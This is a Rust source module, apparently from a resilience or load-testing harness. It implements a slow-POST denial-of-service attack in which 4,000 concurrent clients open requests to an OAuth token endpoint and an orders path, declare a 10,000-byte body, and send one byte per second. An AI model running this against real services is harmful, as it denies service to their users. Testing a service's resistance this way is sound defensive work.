//! Clients that send the body of a request byte by byte, one a second: forms of the token endpoint, which needs no
//! authentication, and orders.

use std::sync::Arc;

use anyhow::Result;
use tokio::io::AsyncWriteExt as _;

use super::attack::Attack;
use super::each_second;

/// How many.
const CLIENTS: u64 = 4_000;

/// Starts them.
pub fn start(attack: &Arc<Attack>) {
    for number in 0..CLIENTS {
        let attack = attack.clone();
        tokio::spawn(async move {
            let mut seconds = each_second();
            loop {
                seconds.tick().await;
                if send(&attack, number % 2 == 0).await.is_err() {
                    attack.count("let go");
                }
            }
        });
    }
}

async fn send(attack: &Arc<Attack>, is_form: bool) -> Result<()> {
    let mut connection = attack.connect(CLIENTS).await?;
    let head = if is_form {
        "POST /oauth2/token HTTP/1.1\r\nHost: slow\r\nContent-Length: 10000\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n\r\n"
            .to_owned()
    } else {
        format!(
            "POST {} HTTP/1.1\r\nHost: slow\r\nContent-Length: 10000\r\nContent-Type: application/json\r\n\
             Authorization: Bearer {}\r\n\r\n",
            super::PATH,
            attack.token
        )
    };
    connection.tcp.write_all(head.as_bytes()).await?;
    let mut seconds = each_second();
    loop {
        seconds.tick().await;
        connection.tcp.write_all(b"x").await?;
    }
}
